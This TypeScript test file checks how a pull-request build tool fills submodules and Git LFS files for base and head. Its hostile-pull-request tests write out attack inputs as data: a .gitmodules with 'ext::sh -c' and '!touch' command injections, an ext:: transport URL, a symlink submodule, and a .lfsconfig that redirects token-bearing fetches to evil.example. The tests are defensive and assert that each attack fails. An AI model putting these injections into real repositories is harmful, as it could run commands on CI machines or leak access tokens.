import { existsSync } from "node:fs";
import { chmod, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { delimiter, join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { ToolError } from "../../src/errors.ts";
import type { System } from "../../src/system/system.ts";
import { type Contents, fetchContents, fillTree, refuseUnlike, withoutOf } from "../../src/target/contents.ts";
import { openRepository } from "../../src/target/git.ts";
import { addWorktrees } from "../../src/target/worktrees.ts";
import { privateGit } from "../helpers/private-git.ts";
import { type TestSystem, testSystem } from "../helpers/system.ts";
import { cloneOf, createRepository, type Repository, repositoryAt } from "./repository.ts";

const R24 = { tags: ["R24" as const] };

/** Submodules come from folders of this machine here, which git refuses by itself. */
function withSettings(system: System, settings: Readonly<Record<string, string>>): System {
  const pairs = Object.entries(settings).flatMap(([key, value], index) => [
    [`GIT_CONFIG_KEY_${index}`, key],
    [`GIT_CONFIG_VALUE_${index}`, value],
  ]);
  return { ...system, env: { ...system.env, ...Object.fromEntries(pairs), GIT_CONFIG_COUNT: `${pairs.length / 2}` } };
}

/** Both sides as the gate has them before it builds. */
async function sidesOf(system: System, { git }: Pick<Repository, "git">, commits: { base: string; head: string }) {
  const dirs = await addWorktrees(system, git, commits);
  const fill = (side: "base" | "head") => fillTree(system, side, { git, commit: commits[side], dir: dirs[side] });
  return { dirs, head: await fill("head"), base: await fill("base") };
}

const text = (...path: string[]) => readFile(join(...path), "utf8");

describe("submodules", () => {
  /** shop has lib, which has core: shop's base names the first commit of each, head the second. */
  async function nested(system: System) {
    const core = await createRepository(system, "core");
    const lib = await createRepository(system, "lib with 'blanks'");
    const shop = await createRepository(system, "shop");
    const add = (to: Repository, from: Repository, path: string) =>
      to.git.run(["submodule", "--quiet", "add", "--", `file://${from.folder}`, path]);
    const update = async (of: Repository, path: string, commit: string) => {
      await of.git.run(["-C", join(of.folder, path), "fetch", "--quiet", "origin"]);
      await of.git.run(["-C", join(of.folder, path), "checkout", "--quiet", commit]);
    };
    await core.commit("core 1", { core: "1" });
    await add(lib, core, "deep/core");
    const lib1 = await lib.commit("lib 1", { lib: "1" });
    await add(shop, lib, "vendor/ü lib");
    const base = await shop.commit("base", { app: "1" });
    const core2 = await core.commit("core 2", { core: "2" });
    await update(lib, "deep/core", core2);
    const lib2 = await lib.commit("lib 2", { lib: "2" });
    await update(shop, "vendor/ü lib", lib2);
    const head = await shop.commit("head", { app: "2" });
    return { shop, base, head, lib1 };
  }

  /** As actions/checkout with `submodules: recursive` leaves it: of each just the commit that head names. */
  async function checkout(system: System, shop: Repository, how: readonly string[] = ["--recursive"]) {
    const clone = await cloneOf(system, shop, []);
    await clone.git.run(["submodule", "--quiet", "update", "--init", "--force", "--depth=1", ...how]);
    return clone;
  }

  let shared: TestSystem;
  let history: Awaited<ReturnType<typeof nested>>;
  beforeAll(async () => {
    shared = await testSystem();
    history = await nested(local(shared.system));
  });
  afterAll(() => shared[Symbol.asyncDispose]());

  const PATH = "vendor/ü lib";
  const local = (system: System) => withSettings(system, { "protocol.file.allow": "always" });

  test("each side has those of the checkout at the commits that it names, nested ones too", R24, async () => {
    await using job = await testSystem();
    const system = local(job.system);
    const { shop, base, head, lib1 } = history;
    const clone = await checkout(system, shop);
    await expect(clone.git.run(["-C", join(clone.folder, PATH), "cat-file", "-e", lib1])).rejects.toThrow();

    await fetchContents(system, { git: clone.git, commit: base }, {});
    await using weigh = await testSystem();
    // Nothing is asked of a server any more.
    const offline = withSettings(weigh.system, { "protocol.allow": "never" });
    const { dirs, ...sides } = await sidesOf(offline, clone, { base, head });
    refuseUnlike(sides.head, sides.base);
    for (const [side, value] of [
      ["base", "1"],
      ["head", "2"],
    ] as const) {
      expect(await text(dirs[side], "app")).toBe(value);
      expect(await text(dirs[side], PATH, "lib")).toBe(value);
      expect(await text(dirs[side], PATH, "deep/core/core")).toBe(value);
      const submodules = { filled: [PATH, `${PATH}/deep/core`], empty: [] };
      expect(sides[side]).toMatchObject({ submodules });
      expect(withoutOf(sides[side])).toEqual([]);
    }
    // The checkout is as it was, and nothing is left of the worktrees.
    expect(await text(clone.folder, PATH, "lib")).toBe("2");
    await weigh.system.processes.end();
    expect(weigh.lines).toEqual([]);
    for (const folder of ["", PATH, `${PATH}/deep/core`])
      expect(await clone.git.run(["-C", join(clone.folder, folder), "worktree", "list"])).not.toContain("\n");
    expect(existsSync(dirs.head)).toBe(false);
  });

  test("what the checkout left empty is empty on both sides, and that is said", R24, async () => {
    await using job = await testSystem();
    const system = local(job.system);
    const { shop, base, head } = history;
    const clone = await cloneOf(system, shop, []);
    await fetchContents(system, { git: clone.git, commit: base }, {});
    const sides = await sidesOf(system, clone, { base, head });
    refuseUnlike(sides.head, sides.base);
    expect(await readdir(join(sides.dirs.head, PATH))).toEqual([]);
    expect(withoutOf(sides.head)).toEqual([`Submodules are empty, as in the checkout: ${PATH}.`]);

    // Those of the first level alone (`submodules: true`).
    const flat = await checkout(system, shop, []);
    await fetchContents(system, { git: flat.git, commit: base }, {});
    const first = await sidesOf(system, flat, { base, head });
    refuseUnlike(first.head, first.base);
    expect(await text(first.dirs.base, PATH, "lib")).toBe("1");
    expect(withoutOf(first.base)).toEqual([`Submodules are empty, as in the checkout: ${PATH}/deep/core.`]);
  });

  test("one that git mv moved is there on both sides, by its name", R24, async () => {
    await using job = await testSystem();
    const system = local(job.system);
    const { shop, base, lib1 } = await nested(system);
    await shop.git.run(["mv", PATH, "lib"]);
    const moved = await shop.commit("moved");
    const clone = await checkout(system, shop);
    await expect(clone.git.run(["-C", join(clone.folder, "lib"), "cat-file", "-e", lib1])).rejects.toThrow();
    await fetchContents(system, { git: clone.git, commit: base }, {});
    const { dirs, ...sides } = await sidesOf(system, clone, { base, head: moved });
    refuseUnlike(sides.head, sides.base);
    expect(await text(dirs.base, PATH, "lib")).toBe("1");
    expect(await text(dirs.base, PATH, "deep/core/core")).toBe("1");
    expect(await text(dirs.head, "lib/lib")).toBe("2");
  });

  test("one that head removed, or that cannot be fetched, ends the comparison: it is no answer of base's", {
    tags: ["R24", "T22"],
  }, async () => {
    await using job = await testSystem();
    const system = local(job.system);
    const { shop, base } = await nested(system);
    await shop.git.run(["rm", "--quiet", PATH]);
    const removed = await shop.commit("removed", { "another/place": "" });
    const clone = await checkout(system, shop);
    const sides = await sidesOf(system, clone, { base, head: removed });
    expect(() => refuseUnlike(sides.head, sides.base)).toThrow(
      new ToolError(
        `base: ${PATH} is a submodule that this checkout does not have, so this side alone would be built without it; keep it in this change, or hold this change to its limits alone (mode: budgets); one that git mv moved is found.`,
      ),
    );

    await shop.git.run(["submodule", "--quiet", "add", "--", `file://${clone.folder}`, "lib"]);
    await shop.git.run(["update-index", "--cacheinfo", `160000,${"1".repeat(40)},lib`]);
    await shop.git.run(["commit", "--quiet", "-m", "lost"], WHO);
    const lost = { git: shop.git, commit: await shop.git.run(["rev-parse", "HEAD"]) };
    const dir = join(await system.processes.temporaryFolder("lost"), "base");
    await shop.git.run(["worktree", "add", "--quiet", "--detach", dir, lost.commit]);
    const filled = fillTree(system, "base", { ...lost, dir });
    await expect(filled).rejects.toThrow(ToolError);
    await expect(filled).rejects.toThrow(
      `base: In submodule lib: Commit ${"1".repeat(40)} is not in this clone and could not be fetched`,
    );
    await expect(fetchContents(system, lost, {})).rejects.toThrow("In submodule lib: Commit");
  });

  test("files in base that head has as an empty submodule: head is not built", R24, async () => {
    await using job = await testSystem();
    const { git, commit } = await createRepository(job.system);
    const base = await commit("vendored", { "lib/a.js": "1", b: "" });
    await git.run(["rm", "-r", "--quiet", "lib"]);
    await git.run(["update-index", "--add", "--cacheinfo", `160000,${base},lib`]);
    await git.run(["commit", "--quiet", "-m", "as a submodule"], WHO);
    const head = await git.run(["rev-parse", "HEAD"]);
    const sides = await sidesOf(job.system, { git }, { base, head });
    expect(() => refuseUnlike(sides.head, sides.base)).toThrow(
      /^head: lib is a submodule that .*; check out with submodules: true\.$/,
    );
    const back = await sidesOf(job.system, { git }, { base: head, head: base });
    expect(() => refuseUnlike(back.head, back.base)).toThrow(/^base: lib is a submodule that this checkout does not/);
  });

  test("a private one is fetched with the token, which no process of ours keeps", R24, async () => {
    await using job = await testSystem();
    const { system } = job;
    const folder = await system.processes.temporaryFolder("server");
    await using server = await privateGit(folder, "canary-token");
    const header = `AUTHORIZATION: basic ${Buffer.from("x-access-token:canary-token").toString("base64")}`;
    const credentials = {
      GIT_CONFIG_COUNT: "1",
      GIT_CONFIG_KEY_0: `http.${server.url}/.extraheader`,
      GIT_CONFIG_VALUE_0: header,
    };
    const allowed: System = { ...system, env: { ...system.env, ...credentials } };
    const lib = await createRepository(system, "lib");
    const older = await lib.commit("1", { lib: "1" });
    await lib.commit("2", { lib: "2" });
    await lib.git.run(["clone", "--quiet", "--bare", ".", join(folder, "lib.git")]);
    await lib.git.run(["--git-dir", join(folder, "lib.git"), "config", "uploadpack.allowAnySHA1InWant", "true"]);
    const shop = await createRepository(allowed, "shop");
    await shop.git.run(["submodule", "--quiet", "add", "--depth=1", `${server.url}/lib.git`, "lib"]);
    await shop.git.run(["update-index", "--cacheinfo", `160000,${older},lib`]);
    await shop.git.run(["commit", "--quiet", "-m", "base"], WHO);
    const of = { git: shop.git, commit: await shop.git.run(["rev-parse", "HEAD"]) };
    await expect(fetchContents(system, of, {})).rejects.toThrow("In submodule lib: Commit");
    await fetchContents(system, of, credentials);
    const { dirs } = await sidesOf(system, shop, { base: of.commit, head: of.commit });
    expect(await text(dirs.base, "lib/lib")).toBe("1");
  });

  describe("of a pull request that means harm", () => {
    test(".gitmodules names a command and an address, and neither is heeded", { tags: ["R24", "T2"] }, async () => {
      await using job = await testSystem();
      const system = local(job.system);
      const { shop, base } = history;
      const clone = await checkout(system, shop);
      const seen = join(clone.folder, "PWNED");
      const hostile = `[submodule "${PATH}"]\n\tpath = "${PATH}"\n\turl = "ext::sh -c touch% ${seen}"\n\tupdate = "!touch '${seen}'"\n`;
      const head = await clone.commit("harm", { ".gitmodules": hostile });
      await fetchContents(system, { git: clone.git, commit: base }, {});
      await fetchContents(system, { git: clone.git, commit: head }, {});
      const { dirs } = await sidesOf(system, clone, { base, head });
      expect(await text(dirs.head, PATH, "lib")).toBe("2");
      expect(existsSync(seen)).toBe(false);
    });

    test("its clone's address is a folder or a command of this machine: not fetched from", R24, async () => {
      await using job = await testSystem();
      const { shop, base } = history;
      const clone = await checkout(local(job.system), shop);
      const seen = join(clone.folder, "PWNED");
      for (const url of [`file://${shop.folder}`, `ext::sh -c touch% ${seen}`]) {
        await clone.git.run(["-C", join(clone.folder, PATH), "remote", "set-url", "origin", url]);
        const fetched = fetchContents(job.system, { git: clone.git, commit: base }, {});
        await expect(fetched).rejects.toThrow(/transport '(?:file|ext)' not allowed/);
      }
      expect(existsSync(seen)).toBe(false);
    });

    test("a link in its place leads to no other repository and out of no worktree", R24, async () => {
      await using job = await testSystem();
      const { git, commit, folder, write } = await createRepository(job.system, "shop");
      const other = await createRepository(job.system, "other");
      const sha = await other.commit("secret", { secret: "1" });
      await write({ a: "" });
      await symlink(other.folder, join(folder, "lib"));
      const linked = await commit("a link");
      await git.run(["rm", "--quiet", "lib"]);
      await git.run(["update-index", "--add", "--cacheinfo", `160000,${sha},lib`]);
      await git.run(["commit", "--quiet", "-m", "a submodule"], WHO);
      const head = await git.run(["rev-parse", "HEAD"]);
      await rm(join(folder, "lib"), { recursive: true, force: true });
      await symlink(other.folder, join(folder, "lib"));
      const { dirs, head: filled } = await sidesOf(job.system, { git }, { base: linked, head });
      expect(await readdir(join(dirs.head, "lib"))).toEqual([]);
      expect(filled.submodules).toEqual({ filled: [], empty: ["lib"] });
      expect(await other.git.run(["worktree", "list"])).not.toContain("\n");
    });
  });
});

describe("files of Git LFS", () => {
  /** What git-lfs does, as far as it matters here; its server is a folder, which $LFS_SERVER names. */
  const GIT_LFS = `#!/bin/sh
set -eu
objects=$(git rev-parse --path-format=absolute --git-common-dir)/lfs/objects
mkdir -p "$objects"
oid_of() { sed -n 's/^oid sha256://p' "$1"; }
case $1 in
  clean) cat > "$objects/new"; oid=$(sha256sum < "$objects/new" | cut -d' ' -f1)
    size=$(wc -c < "$objects/new"); mv "$objects/new" "$objects/$oid"
    printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%s\\nsize %s\\n' "$oid" "$size" ;;
  smudge) cat > "$objects/pointer.$$"; oid=$(oid_of "$objects/pointer.$$")
    if test "\${GIT_LFS_SKIP_SMUDGE:-}" = 1; then cat "$objects/pointer.$$"
    else test -e "$objects/$oid" || { touch "$objects/../asked"; exit 2; }; cat "$objects/$oid"; fi; rm "$objects/pointer.$$" ;;
  checkout) git ls-files ':(attr:filter=lfs)' | while read -r file; do
      oid=$(oid_of "$file"); if test -n "$oid" && test -e "$objects/$oid"; then cat "$objects/$oid" > "$file"; fi; done ;;
  fetch) setting() { git config "lfs.$1" || git config -f .lfsconfig "lfs.$1" || true; }
    setting url > "$LFS_SERVER/asked"; exclude=$(setting fetchexclude); include=$(setting fetchinclude)
    git ls-tree -r --name-only "$3" | while read -r file; do
      if test "$file" = "$exclude" || test -n "$include"; then continue; fi
      oid=$(git cat-file blob "$3:$file" | sed -n 's/^oid sha256://p')
      if test -n "$oid"; then cp "$LFS_SERVER/$oid" "$objects/"; fi; done ;;
esac
`;

  const big = (value: string) => value.repeat(2000);
  const pointer = /^version https:\/\/git-lfs\.github\.com\/spec\/v1\noid sha256:/;

  /** A base and a head of one file, whose contents a server has, and a clone that has neither. */
  async function stored(job: { readonly system: System }) {
    const bin = await job.system.processes.temporaryFolder("bin");
    await writeFile(join(bin, "git-lfs"), GIT_LFS);
    await chmod(join(bin, "git-lfs"), 0o755);
    const server = await job.system.processes.temporaryFolder("lfs-server");
    // Without the settings of a real one on this machine.
    const alone = { GIT_CONFIG_NOSYSTEM: "1", GIT_CONFIG_GLOBAL: "/dev/null" };
    const env = { ...job.system.env, ...alone, PATH: `${bin}${delimiter}${process.env.PATH}`, LFS_SERVER: server };
    const filter = {
      "filter.lfs.clean": "git-lfs clean",
      "filter.lfs.smudge": "git-lfs smudge",
    };
    const system = withSettings({ ...job.system, env }, { ...filter, "filter.lfs.required": "true" });
    const origin = await createRepository(system, "origin");
    const files = { ".gitattributes": "*.bin filter=lfs\n", "a b.bin": big("1"), "plain.txt": big("x") };
    const base = await origin.commit("base", files);
    const head = await origin.commit("head", { "a b.bin": big("2") });
    await system.processes.run(`cp -R "${origin.folder}/.git/lfs/objects/." "${server}"`, { cwd: bin, env });
    const skipping = { ...system, env: { ...system.env, GIT_LFS_SKIP_SMUDGE: "1" } };
    const { folder } = await cloneOf(skipping, origin, []);
    const clone = await repositoryAt(system, folder);
    const pull = async (commit: string) => {
      await clone.git.run(["lfs", "fetch", "origin", commit], { LFS_SERVER: server });
      await clone.git.run(["lfs", "checkout"]);
    };
    return { system, origin, clone, base, head, pull };
  }

  test("where the checkout has their content, both sides do, and base's is fetched before", R24, async () => {
    await using job = await testSystem();
    const { system, clone, base, head, pull } = await stored(job);
    await pull(head);
    expect(await text(clone.folder, "a b.bin")).toBe(big("2"));
    await fetchContents(system, { git: clone.git, commit: base }, {});
    const sides = await sidesOf(system, clone, { base, head });
    refuseUnlike(sides.head, sides.base);
    expect(await text(sides.dirs.base, "a b.bin")).toBe(big("1"));
    expect(await text(sides.dirs.head, "a b.bin")).toBe(big("2"));
    expect(sides.base.lfs).toEqual({ filled: ["a b.bin"], empty: [] });
  });

  test("of a pull request, .lfsconfig sends the step with the token to no other server, and leaves nothing out", {
    tags: ["R24", "T2", "T13"],
  }, async () => {
    await using job = await testSystem();
    const { system, origin, clone, base, head, pull } = await stored(job);
    await pull(head);
    const harm = "[lfs]\n\turl = https://evil.example/lfs\n\tfetchexclude = a b.bin\n\tfetchinclude = none\n";
    await clone.commit("harm", { ".lfsconfig": harm });
    const fetched = async (commit: string) => {
      await fetchContents(system, { git: clone.git, commit }, {});
      return (await text(system.env.LFS_SERVER!, "asked")).trim();
    };
    expect(await fetched(base)).toBe(`file://${origin.folder}`);
    const { dirs } = await sidesOf(system, clone, { base, head });
    expect(await text(dirs.base, "a b.bin")).toBe(big("1"));

    await clone.git.run(["remote", "set-url", "origin", "https://github.invalid/octo/shop"]);
    expect(await fetched(base)).toBe("https://github.invalid/octo/shop.git/info/lfs");
    // What is merged has been reviewed.
    const own = await clone.commit("own", { ".lfsconfig": "[lfs]\n\turl = https://lfs.example/\n" });
    await clone.commit("harm", { ".lfsconfig": harm });
    expect(await fetched(own)).toBe("https://lfs.example/");
    await clone.git.run(["config", "lfs.url", "https://lfs.example/clone"]);
    expect(await fetched(own)).toBe("https://lfs.example/clone");
  });

  test("where the checkout has pointers, both sides do, no server is asked, and that is said", R24, async () => {
    await using job = await testSystem();
    const { system, clone, base, head } = await stored(job);
    await fetchContents(system, { git: clone.git, commit: base }, {});
    const sides = await sidesOf(system, clone, { base, head });
    refuseUnlike(sides.head, sides.base);
    for (const dir of Object.values(sides.dirs)) expect(await text(dir, "a b.bin")).toMatch(pointer);
    expect(withoutOf(sides.head)).toEqual(["Files of Git LFS are pointers, as in the checkout: a b.bin."]);
    expect(existsSync(join(clone.folder, ".git/lfs/asked"))).toBe(false);
  });

  test("a pointer on one side and content on the other are not compared", R24, async () => {
    await using job = await testSystem();
    const { system, clone, base, head, pull } = await stored(job);
    await pull(head);
    const sides = await sidesOf(system, clone, { base, head });
    expect(await text(sides.dirs.base, "a b.bin")).toMatch(pointer);
    expect(() => refuseUnlike(sides.head, sides.base)).toThrow(
      new ToolError(
        "base: of a b.bin only the pointer of Git LFS is here, so this side alone would be built without its content; check out with lfs: true, or fetch it before (git lfs fetch --all).",
      ),
    );
  });

  test("a file that head moves to Git LFS is no smaller for it", R24, async () => {
    await using job = await testSystem();
    const { system, origin } = await stored(job);
    const before = await origin.git.run(["rev-parse", "HEAD"]);
    const moved = await origin.commit("moved", {
      ".gitattributes": "*.bin filter=lfs\n*.txt filter=lfs\n",
      "plain.txt": big("y"),
    });
    const skipping = { ...system, env: { ...system.env, GIT_LFS_SKIP_SMUDGE: "1" } };
    const { folder } = await cloneOf(skipping, origin, []);
    const clone = { folder, git: await openRepository(system, folder) };
    const sides = await sidesOf(system, clone, { base: before, head: moved });
    expect(() => refuseUnlike(sides.head, sides.base)).toThrow(
      /^head: of plain\.txt only the pointer of Git LFS is here/,
    );
  });

  test("without git-lfs pointers stay pointers, though git was told to ask for it", R24, async () => {
    await using job = await testSystem();
    const { system, clone, base, head } = await stored(job);
    const without = { ...system, env: { ...system.env, PATH: process.env.PATH ?? "" } };
    const lfs = withSettings(without, {
      "filter.lfs.process": "no-git-lfs-here",
      "filter.lfs.smudge": "no-git-lfs-here",
      "filter.lfs.required": "true",
    });
    const sides = await sidesOf(lfs, clone, { base, head });
    refuseUnlike(sides.head, sides.base);
    expect(await text(sides.dirs.head, "a b.bin")).toMatch(pointer);
  });
});

test("of many names three are said", () => {
  const four = { filled: [], empty: ["a", "b", "c", "d"] };
  const contents: Contents = { dir: "/", submodules: four, lfs: { filled: ["x"], empty: [] } };
  expect(withoutOf(contents)).toEqual(["Submodules are empty, as in the checkout: a, b, c and 1 more."]);
});

const WHO = {
  GIT_AUTHOR_NAME: "Test",
  GIT_AUTHOR_EMAIL: "test@example.com",
  GIT_COMMITTER_NAME: "Test",
  GIT_COMMITTER_EMAIL: "test@example.com",
};
